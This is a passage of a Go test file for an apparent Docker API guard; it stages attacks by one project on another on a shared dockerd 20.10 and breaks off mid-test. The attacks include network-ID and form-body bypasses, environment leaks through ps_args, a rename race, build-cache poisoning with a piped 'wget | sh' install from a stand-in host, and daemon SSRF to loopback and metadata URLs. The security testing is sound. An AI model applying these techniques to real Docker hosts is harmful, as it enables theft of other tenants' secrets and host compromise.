package dockerguard

// Attacks of a hostile phase of project alpha on the bed's real dockerd
// (20.10, API 1.41), with project beta on the same daemon: a container with
// a secret in its environment, a named volume with a secret file, a network
// with a secret web page, images of its own. What the daemon holds, asked
// directly (daemon(t)), is the verdict; the guard's answer alone never is.
//
// Every test here is named TestAttack…. An attack the guard stops is a
// regression test that fails if it stops stopping it; an attack that gets
// through fails now, with the request and what the daemon shows.

import (
	"archive/tar"
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/events"
	"github.com/docker/docker/api/types/filters"
	"github.com/docker/docker/api/types/image"
	"github.com/docker/docker/api/types/network"
	"github.com/docker/docker/client"
	"github.com/docker/docker/pkg/stdcopy"

	"github.com/jetway-dev/jetway/internal/api"
	"github.com/jetway-dev/jetway/internal/testbed"
)

// attackSeq keeps the names of one test's objects apart from another's.
var attackSeq atomic.Int64

// betaProject is project beta's run on the shared daemon: what alpha is
// after.
type betaProject struct {
	gd                   *guarded
	id, name             string // the container: env BETA_TOKEN, /data on the volume, a web page on the network
	volume, network, img string
}

const (
	betaEnvSecret  = "s3cr3t-beta-env"
	betaFileSecret = "s3cr3t-beta-file"
	betaWebSecret  = "s3cr3t-beta-web"
)

// startBeta starts beta's guard and, through it, beta's container, volume,
// network and image. Start it before alpha's guard: cleanups run in
// reverse, so alpha's objects (which may hold on to beta's) go first.
func startBeta(t *testing.T) *betaProject {
	t.Helper()
	n := attackSeq.Add(1)
	b := &betaProject{
		name:    fmt.Sprintf("beta-app-%d", n),
		volume:  fmt.Sprintf("betadata-%d", n),
		network: fmt.Sprintf("betanet-%d", n),
		img:     fmt.Sprintf("beta/app-%d:1", n),
	}
	// Registered before beta's guard, so that it runs after the guard's
	// Cleanup has removed the container that holds the volume.
	d := daemon(t)
	t.Cleanup(func() {
		_, _ = d.ImageRemove(context.Background(), b.img, image.RemoveOptions{})
		_ = d.VolumeRemove(context.Background(), b.volume, true)
	})
	b.gd = startGuard(t, "beta", fmt.Sprintf("run-beta-%d", n), api.DockerPolicy{})
	b.gd.mustDocker("network", "create", b.network)
	b.id = b.gd.mustDocker("run", "-d", "--name", b.name, "--network", b.network, "-e", "BETA_TOKEN="+betaEnvSecret,
		"-v", b.volume+":/data", testbed.BaseImage, "sh", "-c",
		"echo "+betaFileSecret+" > /data/f; mkdir -p /www; echo "+betaWebSecret+" > /www/secret; exec httpd -f -p 8080 -h /www")
	b.gd.mustDocker("tag", testbed.BaseImage, b.img)
	return b
}

// guardHTTP is an HTTP client on a guard's socket.
func guardHTTP(gd *guarded) *http.Client {
	return &http.Client{Timeout: 2 * time.Minute, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var nd net.Dialer
			return nd.DialContext(ctx, "unix", gd.socket)
		},
	}}
}

// send makes one request through the guard and returns its status and body.
func send(t *testing.T, gd *guarded, method, path, contentType string, body []byte) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, "http://docker"+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	hc := guardHTTP(gd)
	defer hc.CloseIdleConnections()
	res, err := hc.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(out)
}

// createRaw posts a container configuration as it is; id is "" when the
// guard or the daemon refused it.
func createRaw(t *testing.T, gd *guarded, body string) (id, answer string) {
	t.Helper()
	status, out := send(t, gd, http.MethodPost, "/v1.41/containers/create", "application/json", []byte(body))
	if status != http.StatusCreated {
		return "", out
	}
	var created container.CreateResponse
	if err := json.Unmarshal([]byte(out), &created); err != nil || created.ID == "" {
		t.Fatalf("create: %s", out)
	}
	return created.ID, out
}

func startRaw(t *testing.T, gd *guarded, id string) string {
	t.Helper()
	_, out := send(t, gd, http.MethodPost, "/v1.41/containers/"+id+"/start", "", nil)
	return out
}

// logsOf is what the daemon logged of a container once it stopped (or
// after 20 seconds).
func logsOf(t *testing.T, d *client.Client, id string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	waitC, errC := d.ContainerWait(ctx, id, container.WaitConditionNotRunning)
	select {
	case <-waitC:
	case <-errC:
	}
	rc, err := d.ContainerLogs(context.Background(), id, container.LogsOptions{ShowStdout: true, ShowStderr: true})
	if err != nil {
		return ""
	}
	defer rc.Close()
	var out bytes.Buffer
	_, _ = stdcopy.StdCopy(&out, &out, rc)
	return out.String()
}

// fileInImage reads a file of an image through a container the daemon
// creates (and removes) from it: what the image holds, not what a build
// printed.
func fileInImage(t *testing.T, d *client.Client, ref, path string) (string, bool) {
	t.Helper()
	ctx := context.Background()
	c, err := d.ContainerCreate(ctx, &container.Config{Image: ref, Cmd: []string{"true"}}, nil, nil, nil, "")
	if err != nil {
		return "", false
	}
	defer func() { _ = d.ContainerRemove(ctx, c.ID, container.RemoveOptions{Force: true}) }()
	rc, _, err := d.CopyFromContainer(ctx, c.ID, path)
	if err != nil {
		return "", false
	}
	defer rc.Close()
	tr := tar.NewReader(rc)
	if _, err := tr.Next(); err != nil {
		return "", false
	}
	data, _ := io.ReadAll(tr)
	return string(data), true
}

func imageID(t *testing.T, d *client.Client, ref string) string {
	t.Helper()
	img, err := d.ImageInspect(context.Background(), ref)
	if err != nil {
		return ""
	}
	return img.ID
}

// keepBaseImage puts the base image's tag back on its image after the test,
// whatever an attack made of it: the other tests build from it.
func keepBaseImage(t *testing.T, d *client.Client) string {
	t.Helper()
	orig := imageID(t, d, testbed.BaseImage)
	if orig == "" {
		t.Fatal("the base image is missing")
	}
	t.Cleanup(func() {
		if imageID(t, d, testbed.BaseImage) != orig {
			_ = d.ImageTag(context.Background(), orig, testbed.BaseImage)
		}
	})
	return orig
}

// tarOf is a build context with these files.
func tarOf(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for name, content := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(tw, content); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// ----------------------------------------------------------------------
// Attacks that get through (the tests fail until the guard stops them).

// TestAttackEndpointNetworkIDJoinsAnotherProjectsNetwork: dockerd 20.10
// connects a container to EndpointSettings.NetworkID, not to the network
// its key names (daemon/container_operations.go getNetworkID: "we only
// want to prefer NetworkID for user defined networks"). The guard checks
// the key only.
func TestAttackEndpointNetworkIDJoinsAnotherProjectsNetwork(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-netid", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	own := fmt.Sprintf("alphanet-%d", attackSeq.Add(1))
	alpha.mustDocker("network", "create", own)
	betaNet, err := d.NetworkInspect(ctx, beta.network, network.InspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	onBetasNetwork := func(id string) bool {
		info, err := d.ContainerInspect(ctx, id)
		if err != nil || info.NetworkSettings == nil {
			return false
		}
		for name, ep := range info.NetworkSettings.Networks {
			if name == beta.network || (ep != nil && ep.NetworkID == betaNet.ID && ep.EndpointID != "") {
				return true
			}
		}
		return false
	}

	t.Run("at create", func(t *testing.T) {
		body := fmt.Sprintf(`{"Image":%q,"Cmd":["wget","-qO-","http://%s:8080/secret"],"HostConfig":{"NetworkMode":%q},`+
			`"NetworkingConfig":{"EndpointsConfig":{%q:{"NetworkID":%q}}}}`, testbed.BaseImage, beta.name, own, own, beta.network)
		id, out := createRaw(t, alpha, body)
		if id == "" {
			t.Logf("refused: %s", out)
			return
		}
		startRaw(t, alpha, id)
		logs := logsOf(t, d, id)
		if onBetasNetwork(id) || strings.Contains(logs, betaWebSecret) {
			t.Errorf("POST /containers/create %s\nput alpha's container on beta's network %s; it read beta's page: %q", body, beta.network, logs)
		}
	})

	t.Run("at connect", func(t *testing.T) {
		other := fmt.Sprintf("alphanet-%d", attackSeq.Add(1))
		alpha.mustDocker("network", "create", other)
		id := alpha.mustDocker("run", "-d", "--network", other, testbed.BaseImage, "sleep", "600")
		body := fmt.Sprintf(`{"Container":%q,"EndpointConfig":{"NetworkID":%q}}`, id, beta.network)
		status, out := send(t, alpha, http.MethodPost, "/v1.41/networks/"+own+"/connect", "application/json", []byte(body))
		if onBetasNetwork(id) {
			got, _ := alpha.docker("", "exec", id, "wget", "-qO-", "http://"+beta.name+":8080/secret")
			t.Errorf("POST /networks/%s/connect %s (%d %s)\nconnected alpha's container to beta's network %s; it read beta's page: %q", own, body, status, out, beta.network, got)
		}
	})

	t.Run("NetworkID host", func(t *testing.T) {
		// dockerd refuses a container that is not in the host's network
		// mode on the host network (ErrConflictHostNetwork).
		body := fmt.Sprintf(`{"Image":%q,"Cmd":["ls","/sys/class/net"],"HostConfig":{"NetworkMode":%q},`+
			`"NetworkingConfig":{"EndpointsConfig":{%q:{"NetworkID":"host"}}}}`, testbed.BaseImage, own, own)
		id, _ := createRaw(t, alpha, body)
		if id == "" {
			return
		}
		startRaw(t, alpha, id)
		if logs := logsOf(t, d, id); strings.Contains(logs, bed.Get(t).NetNS[3:]) {
			t.Errorf("POST /containers/create %s\nput alpha's container on the Docker host's network: %q", body, logs)
		}
	})
}

// formBody is a build request body that dockerd 20.10 reads as both: its
// first 4096 bytes, which postBuild peeks before parsing the form
// (wrapOutputBufferedUntilRequestRead), are the build context; the rest,
// with Content-Type application/x-www-form-urlencoded, are form values
// that r.FormValue and r.Form["t"] put before the query's.
func formBody(t *testing.T, ctxTar []byte, form url.Values) []byte {
	t.Helper()
	if len(ctxTar) > 4096 {
		t.Fatalf("context of %d bytes", len(ctxTar))
	}
	body := make([]byte, 4096)
	copy(body, ctxTar)
	return append(body, "&"+form.Encode()...)
}

// TestAttackFormBodyOverridesBuildQuery: the guard checks the query of
// POST /build and streams the body with the phase's Content-Type; dockerd
// takes parameters from a form-encoded body as well, first.
func TestAttackFormBodyOverridesBuildQuery(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-form-build", api.DockerPolicy{})
	d := daemon(t)
	orig := keepBaseImage(t, d)

	t.Run("tag over the base image", func(t *testing.T) {
		ctxTar := tarOf(t, map[string]string{"Dockerfile": "FROM " + testbed.BaseImage + "\nLABEL jetway.attack=base-replaced\n"})
		body := formBody(t, ctxTar, url.Values{"t": {testbed.BaseImage}})
		status, out := send(t, alpha, http.MethodPost, "/v1.41/build?t=alpha/form-ok", "application/x-www-form-urlencoded", body)
		t.Cleanup(func() { _, _ = d.ImageRemove(context.Background(), "alpha/form-ok", image.RemoveOptions{}) })
		if now := imageID(t, d, testbed.BaseImage); now != orig {
			t.Errorf("POST /build?t=alpha/form-ok, Content-Type: application/x-www-form-urlencoded, body: <context tar padded to 4096 bytes>&t=%s\n"+
				"retagged the base image %s: %s -> %s (%d %s)", url.QueryEscape(testbed.BaseImage), testbed.BaseImage, orig, now, status, lastLine(out))
		}
	})

	t.Run("network.host entitlement", func(t *testing.T) {
		ctxTar := tarOf(t, map[string]string{"Dockerfile": "FROM " + testbed.BaseImage + "\nRUN ls /sys/class/net > /nets\n"})
		body := formBody(t, ctxTar, url.Values{"networkmode": {"host"}})
		status, out := send(t, alpha, http.MethodPost, "/v1.41/build?t=alpha/form-net&networkmode=none", "application/x-www-form-urlencoded", body)
		t.Cleanup(func() { _, _ = d.ImageRemove(context.Background(), "alpha/form-net", image.RemoveOptions{}) })
		nets, ok := fileInImage(t, d, "alpha/form-net", "/nets")
		if ok && strings.Contains(nets, bed.Get(t).NetNS[3:]) {
			t.Errorf("POST /build?networkmode=none, form body networkmode=host: the build ran on the Docker host's network (interfaces %q) (%d %s)", nets, status, lastLine(out))
		}
	})
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndex(s, "\n"); i >= 0 {
		s = s[i+1:]
	}
	if len(s) > 300 {
		s = s[:300]
	}
	return s
}

// TestAttackFormBodyOverridesImportQuery: POST /images/create?fromSrc=-
// with no repo is streamed unchecked; dockerd parses a form-encoded body
// (ParseForm) and takes repo, tag and fromSrc from it.
func TestAttackFormBodyOverridesImportQuery(t *testing.T) {
	b := bed.Get(t)
	alpha := startGuard(t, "alpha", "run-attack-form-import", api.DockerPolicy{})
	d := daemon(t)
	orig := keepBaseImage(t, d)
	// What the import fetches: on the bed's machine address, which the
	// daemon reaches (its registry is there too).
	layer := tarOf(t, map[string]string{"pwned": "alpha was here\n"})
	l, err := net.Listen("tcp", net.JoinHostPort(b.HostIP, "0"))
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(layer) })}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })

	repo, tag, _ := strings.Cut(testbed.BaseImage, ":")
	form := url.Values{"repo": {repo}, "tag": {tag}, "fromSrc": {"http://" + l.Addr().String() + "/layer.tar"}}
	status, out := send(t, alpha, http.MethodPost, "/v1.41/images/create?fromSrc=-", "application/x-www-form-urlencoded", []byte(form.Encode()))
	if now := imageID(t, d, testbed.BaseImage); now != orig {
		t.Errorf("POST /images/create?fromSrc=-, Content-Type: application/x-www-form-urlencoded, body: %s\nreplaced the base image %s: %s -> %s (%d %s)",
			form.Encode(), testbed.BaseImage, orig, now, status, lastLine(out))
		_, _ = d.ImageRemove(context.Background(), now, image.RemoveOptions{Force: true})
	}
}

// TestAttackTopPsArgsReadsAnotherProjectsEnvironment: GET
// /containers/{id}/top runs ps on the Docker host with ps_args (split at
// spaces) over every process of the host, then keeps the lines whose PID
// column is one of the container's. A column with spaces in its values
// (args) before the PID column shifts the fields, and dockerd's error
// quotes the field it took for a PID ("Unexpected pid '…'"): with -p
// (or -C, --sort) choosing a process, e (environment) and args:4000, each
// request reads one word of any process's command line and environment
// on the host. The host PID stands for what an attacker finds by trying
// the PIDs below its own container's.
func TestAttackTopPsArgsReadsAnotherProjectsEnvironment(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-top", api.DockerPolicy{})
	d := daemon(t)
	own := alpha.mustDocker("run", "-d", testbed.BaseImage, "sleep", "600")
	info, err := d.ContainerInspect(context.Background(), beta.id)
	if err != nil || info.State == nil || info.State.Pid == 0 {
		t.Fatalf("beta's container: %v", err)
	}
	var leaked []string
	for n := 1; n <= 24; n++ {
		args := fmt.Sprintf("-p %d e -o args:4000,%spid", info.State.Pid, strings.Repeat("ppid,", n-1))
		_, out := send(t, alpha, http.MethodGet, "/v1.41/containers/"+own+"/top?ps_args="+url.QueryEscape(args), "", nil)
		if i := strings.Index(out, "Unexpected pid '"); i >= 0 {
			word, _, _ := strings.Cut(out[i+len("Unexpected pid '"):], "'")
			leaked = append(leaked, word)
		}
	}
	if strings.Contains(strings.Join(leaked, " "), betaEnvSecret) {
		t.Errorf("GET /containers/{alpha's}/top?ps_args=-p %d e -o args:4000,ppid,…,pid (1 to 24 columns)\nread beta's process, word by word: %q",
			info.State.Pid, leaked)
	}
}

// TestAttackLogDriverWritesToHostSocket: HostConfig.LogConfig is passed
// as it is; the syslog driver connects the daemon to any unix socket (or
// TCP/UDP address) on the Docker host and writes the container's output
// there (as fluentd, gelf, splunk do to addresses; splunk-capath and
// syslog-tls-* read host files).
func TestAttackLogDriverWritesToHostSocket(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-log", api.DockerPolicy{})
	d := daemon(t)
	dir := t.TempDir()
	sock := filepath.Join(dir, "log.sock")
	conn, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: sock, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	body := fmt.Sprintf(`{"Image":%q,"Cmd":["echo","written-on-the-docker-host"],"HostConfig":{"LogConfig":{"Type":"syslog","Config":{"syslog-address":"unixgram://%s"}}}}`,
		testbed.BaseImage, sock)
	id, out := createRaw(t, alpha, body)
	if id == "" {
		t.Logf("refused: %s", out)
		return
	}
	startRaw(t, alpha, id)
	logsOf(t, d, id)
	_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 4096)
	n, _, _ := conn.ReadFrom(buf)
	var logConfig container.LogConfig
	if info, err := d.ContainerInspect(context.Background(), id); err == nil && info.HostConfig != nil {
		logConfig = info.HostConfig.LogConfig
	}
	if n > 0 || logConfig.Type == "syslog" {
		t.Errorf("POST /containers/create %s\nthe daemon holds log driver %+v and wrote to the host's socket %s: %q",
			body, logConfig, sock, buf[:n])
	}
}

// TestAttackDefaultCgroupNamespaceIsTheHosts: on a cgroup v1 host dockerd
// 20.10 puts a container that names no cgroupns in the host's cgroup
// namespace (its default there, and always for API < 1.41); the guard
// refuses only an explicit "host".
func TestAttackDefaultCgroupNamespaceIsTheHosts(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-cgroupns", api.DockerPolicy{})
	d := daemon(t)
	for _, version := range []string{"v1.41", "v1.40"} {
		body := fmt.Sprintf(`{"Image":%q,"Cmd":["cat","/proc/self/cgroup"]}`, testbed.BaseImage)
		status, out := send(t, alpha, http.MethodPost, "/"+version+"/containers/create", "application/json", []byte(body))
		if status != http.StatusCreated {
			continue
		}
		var created container.CreateResponse
		_ = json.Unmarshal([]byte(out), &created)
		info, err := d.ContainerInspect(context.Background(), created.ID)
		if err != nil {
			t.Fatal(err)
		}
		if info.HostConfig.CgroupnsMode.IsHost() {
			startRaw(t, alpha, created.ID)
			t.Errorf("POST /%s/containers/create %s\nthe daemon put the container in the host's cgroup namespace (CgroupnsMode %q); it sees %q",
				version, body, info.HostConfig.CgroupnsMode, firstLine(logsOf(t, d, created.ID)))
		}
	}
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
	return s
}

// TestAttackNameConflictRevealsAnotherProjectsContainer: another
// project's container is "not found", but creating (or renaming to) its
// name answers dockerd's conflict, which quotes its full ID.
func TestAttackNameConflictRevealsAnotherProjectsContainer(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-name", api.DockerPolicy{})
	_, out := send(t, alpha, http.MethodPost, "/v1.41/containers/create?name="+beta.name, "application/json",
		[]byte(fmt.Sprintf(`{"Image":%q}`, testbed.BaseImage)))
	if strings.Contains(out, beta.id[:12]) {
		t.Errorf("POST /containers/create?name=%s answered %s\nthat is beta's container ID", beta.name, strings.TrimSpace(out))
	}
	own := alpha.mustDocker("create", testbed.BaseImage, "true")
	_, out = send(t, alpha, http.MethodPost, "/v1.41/containers/"+own+"/rename?name="+beta.name, "", nil)
	if strings.Contains(out, beta.id[:12]) {
		t.Errorf("POST /containers/{own}/rename?name=%s answered %s\nthat is beta's container ID", beta.name, strings.TrimSpace(out))
	}
}

// TestAttackRenameRaceResolvesToAnotherProjectsContainer: the guard
// checks a reference in a container's configuration (VolumesFrom here;
// Links, NetworkMode/PidMode/IpcMode/Cgroup "container:…" alike) and
// forwards the reference, not the ID it checked. Alpha names its own
// container after a prefix of beta's ID (dockerd resolves an exact name
// before an ID prefix) and renames it away while the create is in flight:
// dockerd then resolves the prefix to beta's container.
func TestAttackRenameRaceResolvesToAnotherProjectsContainer(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-race", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	// An attacker learns the prefix from the name conflict above, or tries
	// the 256 two-digit ones.
	prefix := beta.id[:12]
	decoy := alpha.mustDocker("run", "-d", "--name", prefix, testbed.BaseImage, "sleep", "600")
	hc := guardHTTP(alpha)
	defer hc.CloseIdleConnections()
	post := func(path, body string) (int, string) {
		req, _ := http.NewRequest(http.MethodPost, "http://docker"+path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		res, err := hc.Do(req)
		if err != nil {
			return 0, err.Error()
		}
		defer res.Body.Close()
		out, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(out)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				post("/v1.41/containers/"+decoy+"/rename?name="+prefix, "")
				return
			default:
			}
			post("/v1.41/containers/"+decoy+"/rename?name="+prefix+"-away", "")
			post("/v1.41/containers/"+decoy+"/rename?name="+prefix, "")
		}
	}()
	defer func() { close(stop); wg.Wait() }()

	body := fmt.Sprintf(`{"Image":%q,"Cmd":["cat","/data/f"],"HostConfig":{"VolumesFrom":[%q]}}`, testbed.BaseImage, prefix)
	deadline := time.Now().Add(45 * time.Second)
	for i := 0; i < 400 && time.Now().Before(deadline); i++ {
		status, out := post("/v1.41/containers/create", body)
		if status != http.StatusCreated {
			continue
		}
		var created container.CreateResponse
		_ = json.Unmarshal([]byte(out), &created)
		info, err := d.ContainerInspect(ctx, created.ID)
		if err != nil {
			continue
		}
		for _, m := range info.Mounts {
			if m.Name == beta.volume {
				startRaw(t, alpha, created.ID)
				t.Errorf("POST /containers/create %s, racing POST /containers/{own}/rename: after %d tries alpha's container mounts beta's volume %s and reads %q",
					body, i+1, beta.volume, strings.TrimSpace(logsOf(t, d, created.ID)))
				return
			}
		}
		_ = d.ContainerRemove(ctx, created.ID, container.RemoveOptions{Force: true})
	}
}

// TestAttackImageLabelsClaimAnotherProjectsBuildContainers: ownership is
// a label, and a container inherits its image's labels. Every image alpha
// builds is labelled dev.jetway.project=alpha (by the guard itself, and
// here by its Dockerfile too); the classic builder's RUN containers of any
// build FROM it (beta's, here) are alpha's to see, exec into, read (build
// args: secrets) and write (the layer being built).
func TestAttackImageLabelsClaimAnotherProjectsBuildContainers(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-labels", api.DockerPolicy{})
	d := daemon(t)
	n := attackSeq.Add(1)
	base := fmt.Sprintf("alpha/base-%d:1", n)
	built := fmt.Sprintf("beta/built-%d:1", n)
	t.Cleanup(func() {
		for _, ref := range []string{built, base} {
			_, _ = d.ImageRemove(context.Background(), ref, image.RemoveOptions{})
		}
	})
	if out, err := alpha.docker("FROM "+testbed.BaseImage+"\nLABEL "+LabelProject+"=alpha\n", "build", "-q", "-t", base, "-"); err != nil {
		t.Fatalf("alpha's base image: %v %s", err, out)
	}
	done := make(chan string, 1)
	go func() {
		out, err := beta.gd.docker("FROM "+base+"\nARG TOKEN\nRUN sleep 12\n", "build", "--build-arg", "TOKEN=s3cr3t-build-arg", "-t", built, "-")
		done <- fmt.Sprintf("%v %s", err, out)
	}()
	var stolen, target string
	var labels map[string]string
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline) && target == ""; time.Sleep(300 * time.Millisecond) {
		out, _ := alpha.docker("", "ps", "-q", "--no-trunc")
		for _, id := range strings.Fields(out) {
			info, err := d.ContainerInspect(context.Background(), id)
			if err == nil && strings.Contains(strings.Join(info.Config.Cmd, " "), "sleep 12") {
				target, labels = id, info.Config.Labels
				stolen, _ = alpha.docker("", "exec", id, "sh", "-c", "echo TOKEN=$TOKEN; echo injected-by-alpha > /pwned")
			}
		}
	}
	buildOut := <-done
	if target == "" {
		return
	}
	injected, _ := fileInImage(t, d, built, "/pwned")
	t.Errorf("alpha: docker build -t %s with LABEL %s=alpha; beta builds FROM it (classic builder)\n"+
		"beta's RUN container %s carries labels %v; alpha exec'd into it: %q; beta's image %s holds /pwned=%q\nbeta's build: %s",
		base, LabelProject, target[:12], labels, strings.TrimSpace(stolen), built, strings.TrimSpace(injected), lastLine(buildOut))
}

// TestAttackBuildCachePoisonsAnotherProjectsBuild: the classic builder's
// cache is the daemon's, and a RUN step's key is its parent image and
// command, not the build's network. Alpha builds a common line (a piped
// install script) on its own network (allowed: networkmode=<own
// network>), where its container answers for the script's host; beta's
// build of the same line takes alpha's layer from the cache.
func TestAttackBuildCachePoisonsAnotherProjectsBuild(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-poison", api.DockerPolicy{})
	d := daemon(t)
	n := attackSeq.Add(1)
	host := fmt.Sprintf("updates-%d.example.com", n)
	alphaRef, betaRef := fmt.Sprintf("alpha/poison-%d", n), fmt.Sprintf("beta/victim-%d", n)
	t.Cleanup(func() {
		for _, ref := range []string{betaRef, alphaRef} {
			_, _ = d.ImageRemove(context.Background(), ref, image.RemoveOptions{})
		}
	})
	netName := fmt.Sprintf("poisonnet-%d", n)
	alpha.mustDocker("network", "create", netName)
	alpha.mustDocker("run", "-d", "--network", netName, "--network-alias", host, testbed.BaseImage, "sh", "-c",
		`mkdir /w && echo "echo owned-by-alpha > /pwned" > /w/install.sh && exec httpd -f -p 80 -h /w`)
	dockerfile := "FROM " + testbed.BaseImage + "\nRUN wget -qO- http://" + host + "/install.sh | sh\n"
	if out, err := alpha.docker(dockerfile, "build", "--network", netName, "-t", alphaRef, "-"); err != nil {
		if strings.Contains(out, "jetway docker guard") {
			return // refused: the build network is not in the cache key
		}
		t.Fatalf("alpha's build: %v %s", err, out)
	}
	out, _ := beta.gd.docker(dockerfile, "build", "-t", betaRef, "-")
	if got, ok := fileInImage(t, d, betaRef, "/pwned"); ok {
		t.Errorf("alpha: docker build --network %s (its container answering for %s) of %q\nbeta's docker build of the same Dockerfile used alpha's layer: /pwned=%q\n%s",
			netName, host, dockerfile, strings.TrimSpace(got), lastLine(out))
	}
}

// TestAttackImageLabelledAsAnotherProject: the guard labels what a phase
// builds, commits and imports as the project's, and refuses changes that
// name "jetway."; dockerd reads a LABEL instruction's key with escapes,
// quotes and variables, and applies the changes over the configuration
// the guard labelled. An image labelled dev.jetway.project=beta counts
// as beta's for the pool's GC, which keeps each project's newest N: a run
// of alpha that makes N of them has beta's own images removed.
func TestAttackImageLabelledAsAnotherProject(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-gc-labels", api.DockerPolicy{})
	d := daemon(t)
	n := attackSeq.Add(1)
	own := alpha.mustDocker("create", testbed.BaseImage, "true")
	layer := tarOf(t, map[string]string{"x": "x"})
	check := func(t *testing.T, what, ref string) {
		t.Helper()
		img, err := d.ImageInspect(context.Background(), ref)
		if err != nil {
			return
		}
		_, _ = d.ImageRemove(context.Background(), ref, image.RemoveOptions{})
		if p := img.Config.Labels[LabelProject]; p != "" && p != "alpha" {
			t.Errorf("%s\nmade %s, labelled %s=%q (%v)", what, ref, LabelProject, p, img.Config.Labels)
		}
	}
	for i, change := range []string{`LABEL dev.jet\way.project=beta`, `LABEL dev.${X:-jetway}.project=beta`, `LABEL "dev.jetwa"y.project=beta`} {
		t.Run("commit "+change, func(t *testing.T) {
			ref := fmt.Sprintf("alpha/gc-%d-commit-%d", n, i)
			q := url.Values{"container": {own}, "repo": {ref}, "changes": {change}}
			status, out := send(t, alpha, http.MethodPost, "/v1.41/commit?"+q.Encode(), "application/json", []byte("{}"))
			check(t, fmt.Sprintf("POST /commit?%s (%d %s)", q.Encode(), status, strings.TrimSpace(out)), ref)
		})
		t.Run("import "+change, func(t *testing.T) {
			ref := fmt.Sprintf("alpha/gc-%d-import-%d", n, i)
			q := url.Values{"fromSrc": {"-"}, "repo": {ref}, "changes": {change}}
			status, out := send(t, alpha, http.MethodPost, "/v1.41/images/create?"+q.Encode(), "application/x-tar", layer)
			check(t, fmt.Sprintf("POST /images/create?%s (%d %s)", q.Encode(), status, lastLine(out)), ref)
		})
	}
	t.Run("build labels in a form body", func(t *testing.T) {
		ref := fmt.Sprintf("alpha/gc-%d-build", n)
		ctxTar := tarOf(t, map[string]string{"Dockerfile": "FROM " + testbed.BaseImage + "\n"})
		body := formBody(t, ctxTar, url.Values{"labels": {`{"dev.jetway.project":"beta"}`}})
		status, out := send(t, alpha, http.MethodPost, "/v1.41/build?t="+ref, "application/x-www-form-urlencoded", body)
		check(t, fmt.Sprintf("POST /build?t=%s, form body labels={\"dev.jetway.project\":\"beta\"} (%d %s)", ref, status, lastLine(out)), ref)
	})
}

// TestAttackDaemonFetchesURLsOnTheDockerHostsLoopback: POST /build's
// remote and POST /images/create's fromSrc are URLs the daemon fetches,
// from the Docker host's network: its loopback services (which no
// container reaches), the cloud's metadata address. A text answer becomes
// a Dockerfile whose parse error quotes it. A Dockerfile's ADD <url> is
// fetched by the daemon too, into the image: the whole answer.
func TestAttackDaemonFetchesURLsOnTheDockerHostsLoopback(t *testing.T) {
	b := bed.Get(t)
	alpha := startGuard(t, "alpha", "run-attack-ssrf", api.DockerPolicy{})
	l := listenInNetns(t, b.NetNS)
	var mu sync.Mutex
	var hits []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.Method+" "+r.URL.Path)
		mu.Unlock()
		w.Header().Set("Content-Type", "text/plain")
		_, _ = io.WriteString(w, "LOOPBACK-ONLY-SECRET=AKIAEXAMPLE\n")
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	u := "http://" + l.Addr().String()
	for _, c := range []struct {
		name, path string
		body       []byte
	}{
		{"build remote", "/v1.41/build?t=alpha/ssrf&remote=" + url.QueryEscape(u+"/latest/meta-data/iam"), nil},
		{"import fromSrc", "/v1.41/images/create?repo=alpha/ssrf&fromSrc=" + url.QueryEscape(u+"/latest/user-data"), nil},
	} {
		mu.Lock()
		before := len(hits)
		mu.Unlock()
